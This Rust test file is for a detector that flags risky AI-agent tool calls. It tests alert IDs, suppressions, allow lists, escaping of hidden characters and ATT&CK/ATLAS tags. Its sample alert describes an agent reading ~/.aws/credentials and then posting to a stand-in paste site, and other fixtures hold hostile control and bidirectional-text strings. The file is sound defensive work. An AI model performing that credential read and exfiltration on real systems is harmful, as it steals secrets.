//! Identity, suppression, sanitising and the lake's columns.

use super::*;
use crate::lake::tables::alerts_schema;
use chrono::{DateTime, Utc};
use std::borrow::Cow;

/// A plausible alert, also for the tests of the encoders.
pub(crate) fn sample() -> Alert {
    let call = |id: &str, time, tool: &str, arguments: &str| CallEvidence {
        call_id: id.into(),
        time: Some(time),
        session_id: Some("s-1".into()),
        agent: Some("notes-agent".into()),
        user_id: Some("u-7".into()),
        server: Some("web".into()),
        tool: Some(tool.into()),
        method: "tools/call".into(),
        arguments: Some(arguments.into()),
        result_text: Some("ok".into()),
        outcome: "success".into(),
        approval: "auto_allowed".into(),
        source_file: Some("logs/a.jsonl".into()),
        source_line: Some(12),
    };
    let start = 1_795_342_489_123_456;
    let finding = Finding {
        kind: Kind::Rule,
        rule_id: "secret_then_egress".into(),
        rule_title: "Secret read, then data sent out in the same session".into(),
        rule_version: "0f3a".into(),
        rule_group: "exfiltration".into(),
        settings: serde_json::from_str(r#"{"params":{"min_bytes":256}}"#).unwrap(),
        level: Level::High,
        status: "stable".into(),
        tags: ["owasp.mcp10", "atlas.AML.T0086", "attack.t1567.002", "attack.exfiltration", "odd"]
            .map(String::from)
            .into(),
        description: "A credential was read and then data left.".into(),
        falsepositives: vec!["deploy jobs".into()],
        entity: Entity { session_id: Some("s-1".into()), agent: Some("notes-agent".into()), ..Entity::default() },
        first_seen: start,
        last_seen: start + 41_000_000,
        call_ids: vec!["c2".into(), "c1".into(), "c2".into()],
        score: Some(0.86),
        message: Some("4312 bytes sent to paste.example".into()),
        evidence: serde_json::from_str(r#"{"bytes":4312,"hosts":["paste.example"]}"#).unwrap(),
    };
    Alert::new(
        finding,
        vec![
            call("c2", start + 41_000_000, "http_post", r#"{"url":"https://paste.example/new"}"#),
            call("c1", start, "read_file", r#"{"path":"/home/u/.aws/credentials"}"#),
        ],
        [("domain", "paste.example"), ("file_path", "/home/u/.aws/credentials"), ("wallet", "bc1q…")]
            .map(|(kind, value)| Observable { kind: kind.into(), value: value.into() })
            .into(),
        BTreeMap::from([("calls".to_owned(), 7)]),
    )
}

/// Alerts with text that breaks careless encoders, in every place where text can stand.
pub(crate) fn awkward() -> Vec<Alert> {
    let texts = [
        "",
        "\n",
        "a\0b\x1b[31m\u{9b}",
        "\u{202e}fdp.exe\u{200b}",
        "👩‍👩‍👧 naïve ☃",
        "a|b=c\\]\"'<b>&",
        &"x".repeat(1 << 20),
    ];
    let mut alerts: Vec<Alert> = texts
        .iter()
        .map(|text| {
            let text = (*text).to_owned();
            let mut alert = sample();
            let mut finding = alert.finding.clone();
            finding.message = Some(text.clone());
            finding.rule_title = text.clone();
            finding.tags.push(text.clone());
            finding.entity.server = Some(text.clone());
            finding.entity.tool = Some(text.clone());
            finding.evidence.insert(text.clone(), text.clone().into());
            finding.falsepositives.push(text.clone());
            for call in &mut alert.calls {
                call.arguments = Some(text.clone());
                call.tool = Some(text.clone());
                call.method = text.clone();
                call.agent = Some(text.clone());
                call.user_id = Some(text.clone());
            }
            alert.observables.push(Observable { kind: text.clone(), value: text });
            Alert::new(finding, alert.calls, alert.observables, BTreeMap::new())
        })
        .collect();
    let mut bare = sample().finding;
    (bare.call_ids, bare.tags, bare.score, bare.message) = (vec![], vec![], Some(f64::NAN), None);
    (bare.entity, bare.evidence) = (Entity::default(), serde_json::Map::new());
    alerts.push(Alert::new(bare, vec![], vec![], BTreeMap::new()));
    alerts
}

#[test]
fn id_is_of_rule_entity_and_evidence_only() {
    let base = sample().finding;
    let id = alert_id(&base);
    assert_eq!(id.len(), 32);

    let mut reworded = base.clone();
    reworded.level = Level::Low;
    reworded.message = None;
    reworded.rule_version = "other".into();
    reworded.rule_title = "other".into();
    reworded.last_seen += 1;
    reworded.call_ids.reverse();
    assert_eq!(alert_id(&reworded), id);

    // Parts do not run into each other, and "missing" is not "empty".
    let changes: [fn(&mut Finding); 6] = [
        |f| f.rule_id.push('x'),
        |f| f.kind = Kind::Model,
        |f| f.call_ids = vec!["c1c2".into()],
        |f| (f.entity.agent, f.entity.user_id) = (None, f.entity.agent.take()),
        |f| f.entity.tool = Some(String::new()),
        |f| f.call_ids.clear(),
    ];
    let mut ids = std::collections::HashSet::from([id]);
    for change in changes {
        let mut other = base.clone();
        change(&mut other);
        assert!(ids.insert(alert_id(&other)), "{other:?}");
    }
    let mut later = base.clone();
    later.call_ids.clear();
    later.first_seen += 1;
    assert!(ids.insert(alert_id(&later)), "without calls, another start is another alert");
}

#[test]
fn long_evidence_is_cut_and_counted() {
    let mut alert = sample();
    let call = alert.calls[0].clone();
    let calls = (0..50).map(|n| CallEvidence {
        call_id: format!("n{n}"),
        time: Some(n),
        arguments: Some("é".repeat(9000)),
        ..call.clone()
    });
    alert = Alert::new(alert.finding, calls.collect(), vec![], BTreeMap::new());
    assert_eq!((alert.calls.len(), alert.calls_total), (MAX_CALLS, 50));
    assert_eq!((alert.calls[9].time, alert.calls[10].time), (Some(9), Some(40)));
    assert!(alert.calls[0].arguments.as_ref().unwrap().ends_with("é… [13904 bytes more]"));
}

#[test]
fn wildcards() {
    for (pattern, text, fits) in [
        ("*", "", true),
        ("", "", true),
        ("", "a", false),
        ("a*b?c", "axxbyc", true),
        ("a*b?c", "axxbc", false),
        ("*.corp.example", "a.b.corp.example", true),
        ("*.corp.example", "corp.example.evil", false),
        ("[a]", "[a]", true),
        ("*é*", "caféx", true),
        ("A", "a", false),
    ] {
        assert_eq!(Wildcard::new(pattern).matches(text), fits, "{pattern} {text}");
    }
    for (pattern, is_any) in [
        ("*", true),
        ("**", true),
        ("?*", true),
        ("*?", true),
        ("??", true),
        ("*.*", true),
        ("*/?*", true),
        ("*@*", true),
        ("", false),
        ("-", false),
        ("a*", false),
        ("*é*", false),
        ("🤖*", false),
        ("*.7", false),
    ] {
        assert_eq!(Wildcard::new(pattern).is_any(), is_any, "{pattern}");
    }
    let hostile = "a".repeat(100_000);
    assert!(!Wildcard::new("*a*a*a*b").matches(&hostile));
}

fn silence(id: &str, expires: &str) -> Suppression {
    Suppression {
        id: id.into(),
        origin: Origin::Configuration,
        rule: Wildcard::new("secret_*"),
        alert_id: None,
        session_id: None,
        agent: Some(Wildcard::new("notes-*").into()),
        user_id: None,
        server: None,
        tool: None,
        destination: Some(Wildcard::new("paste.*").into()),
        owner: "ana".into(),
        reason: "known".into(),
        expires: Some(expires.parse().unwrap()),
    }
}

#[test]
fn suppressions_hold_until_they_expire_and_hide_no_more_than_they_say() {
    let at: DateTime<Utc> = "2026-11-22T00:00:00Z".parse().unwrap();
    let list = [
        silence("over", "2026-11-22T00:00:00Z"),
        silence("holds", "2026-11-22T00:00:01Z"),
        Suppression { tool: Some(Wildcard::new("http_*").into()), ..silence("one-tool", "2027-01-01T00:00:00Z") },
    ];
    let mut alerts = vec![sample()];
    let done = suppress(&list, &mut alerts, at);
    assert_eq!(alerts[0].suppressed_by.as_deref(), Some("holds"));
    // The alert's calls used two tools, one of which `one-tool` does not name.
    assert_eq!((done.suppressed, done.expired, done.unused), (1, vec!["over".into()], vec!["one-tool".into()]));
    assert_eq!((done.uses[1].alerts, done.uses[1].alone, done.uses[0].expired), (1, 1, true));

    for (kind, value) in [("ip", "203.0.113.7"), ("email", "eve@other.example")] {
        let mut other = sample();
        other.observables.push(Observable { kind: kind.into(), value: value.into() });
        other.observables_total += 1;
        assert_eq!(suppress(&list, [&mut other], at).suppressed, 0, "one of two destinations is unknown");
        alerts[0] = other;
    }
    alerts[0].finding.evidence.insert("destination".into(), "paste.example".into());
    assert_eq!(suppress(&list, &mut alerts, at).suppressed, 1, "the rule says which one counts");
}

#[test]
fn an_allow_list_hides_what_it_covers_whole() {
    let at: DateTime<Utc> = "2026-11-22T00:00:00Z".parse().unwrap();
    let patterns = |list: &[&str]| Some(Patterns::new(list.iter().map(|p| Wildcard::new(*p)).collect()));
    let allowed = |tool: Option<Patterns>| Suppression {
        rule: Wildcard::new("*"),
        agent: None,
        destination: None,
        expires: None,
        origin: Origin::AllowList,
        tool,
        ..silence("allow.tools", "2026-01-01T00:00:00Z")
    };
    let alert = sample();
    let pairs: Vec<String> = (alert.calls.iter())
        .map(|call| format!("{}/{}", call.server.as_deref().unwrap(), call.tool.as_deref().unwrap()))
        .collect();
    let tools: Vec<&str> = alert.calls.iter().filter_map(|call| call.tool.as_deref()).collect();
    assert!(tools.len() > 1 && tools[0] != tools[1], "the sample has two tools");
    assert!(allowed(patterns(&tools)).fits(&alert));
    assert!(!allowed(patterns(&tools[..1])).fits(&alert), "the other tool is not allowed");
    assert!(allowed(patterns(&pairs.iter().map(String::as_str).collect::<Vec<_>>())).fits(&alert));
    assert!(!allowed(patterns(&["elsewhere/*"])).fits(&alert));
    // Of two agents the rule names one, and only that one is allowed.
    let by_agent = Suppression { agent: patterns(&["notes-agent"]), ..allowed(None) };
    assert!(by_agent.fits(&alert));
    let mut two = alert.clone();
    two.calls[1].agent = Some("zebra-agent".into());
    assert!(!by_agent.fits(&two), "the other agent is not allowed");
    // A tool that calls itself `server/tool` is not that server's tool.
    let mut hostile = alert.clone();
    hostile.finding.entity.server = Some("evil".into());
    hostile.finding.entity.tool = Some(pairs[0].clone());
    assert!(!allowed(patterns(&[&pairs[0]])).fits(&hostile));
    let mut alerts = [alert.clone()];
    let list = [allowed(patterns(&[tools[0], tools[1], "other_*"]))];
    let done = suppress(&list, &mut alerts, at);
    assert_eq!((done.suppressed, done.uses[0].alone), (1, 1));
    assert_eq!(done.uses[0].idle_patterns, ["other_*"]);
}

#[test]
fn hidden_characters_show() {
    assert_eq!(visible("plain é ☃ ❤\u{fe0f}"), "plain é ☃ ❤\u{fe0f}");
    assert!(matches!(visible("plain"), Cow::Borrowed(_)));
    assert_eq!(visible("a\x1b[31m\u{9b}\n\u{202e}\u{e0041}"), "a\\x1b[31m\\x9b\\n\\u{202e}\\u{e0041}");
}

#[test]
fn tags_name_their_techniques() {
    use taxonomy::Tag;
    assert!(
        matches!(taxonomy::read("atlas.aml.t0086"), Tag::Technique { version: "5.6.0", id, name: Some(_) } if id == "AML.T0086")
    );
    assert!(matches!(taxonomy::read("attack.command-and-control"), Tag::Tactic { id, .. } if id == "TA0011"));
    assert!(matches!(taxonomy::read("attack.T9999.001"), Tag::SubTechnique { id, name: None, .. } if id == "T9999"));
    assert_eq!(taxonomy::read("attack.s0001"), Tag::Other { scheme: "attack", value: "s0001" });
    assert_eq!(taxonomy::read("owasp.mcp10"), Tag::Other { scheme: "owasp", value: "mcp10" });
    assert_eq!(taxonomy::technique_name("T1567.004"), Some("Exfiltration Over Webhook"));
    assert_eq!(taxonomy::technique_name("AML.T0051.001"), Some("Indirect"));
}

#[test]
fn only_ids_of_the_pinned_releases_pass() {
    use taxonomy::Framework;
    for (framework, count) in Framework::ALL.into_iter().zip([10, 10, 170, 691]) {
        let ids = framework.ids();
        assert_eq!(ids.len(), count, "{framework:?}");
        assert!(ids.windows(2).all(|pair| pair[0].0 < pair[1].0), "{framework:?} is not sorted");
        for (id, title) in ids {
            assert!(!title.is_empty() && taxonomy::check(&framework.tag(id)) == Ok(()), "{id}");
        }
    }
    for tag in [
        "owasp.mcp11",
        "owasp.mcp1",
        "owasp.llm01",
        "atlas.T0086",
        "atlas.AML.T9999",
        "attack.t1567",
        "attack.T0001",
        "attack.T1567.2",
        "attack.T1567.005",
        "mcp10",
        "",
    ] {
        assert!(taxonomy::check(tag).is_err(), "{tag}");
    }
    let hint = taxonomy::check("attack.t1567").expect_err("lower case");
    assert!(hint.ends_with("write `attack.T1567`"), "{hint}");
    assert_eq!(taxonomy::pinned("attack.t1567.002", true), Some((Framework::Attack, "T1567.002")));
}

#[test]
fn alerts_survive_the_lake() {
    let mut alerts = awkward();
    alerts.push(sample());
    alerts[0].suppressed_by = Some("s".into());
    alerts[0].delivery.insert("siem".into(), Delivery::Refused);
    let batch = alerts_to_batch(&alerts).unwrap();
    assert_eq!(batch.schema(), alerts_schema());
    assert_eq!(alerts_from_batch(&batch).unwrap(), alerts);
    assert_eq!(alerts_to_batch(&[]).unwrap().num_rows(), 0);
    assert!(alerts_from_batch(&alerts_to_batch(&[]).unwrap()).unwrap().is_empty());
}

#[test]
fn alerts_are_read_from_the_types_of_a_query_engine() {
    use arrow::datatypes::{DataType, Field, Schema, TimeUnit};
    let alerts = vec![sample()];
    let batch = alerts_to_batch(&alerts).unwrap();
    let columns: Vec<_> = batch
        .columns()
        .iter()
        .map(|column| match column.data_type() {
            DataType::Utf8 => arrow::compute::cast(column, &DataType::Utf8View).unwrap(),
            DataType::List(_) => {
                let item = Field::new("element", DataType::Utf8View, true).into();
                arrow::compute::cast(column, &DataType::LargeList(item)).unwrap()
            }
            DataType::Timestamp(..) => {
                arrow::compute::cast(column, &DataType::Timestamp(TimeUnit::Nanosecond, Some("+00:00".into()))).unwrap()
            }
            _ => column.clone(),
        })
        .collect();
    let fields: Vec<_> = batch
        .schema()
        .fields()
        .iter()
        .zip(&columns)
        .map(|(f, c)| Field::new(f.name(), c.data_type().clone(), true))
        .collect();
    let viewed = arrow::array::RecordBatch::try_new(std::sync::Arc::new(Schema::new(fields)), columns).unwrap();
    assert_eq!(alerts_from_batch(&viewed).unwrap(), alerts);
}
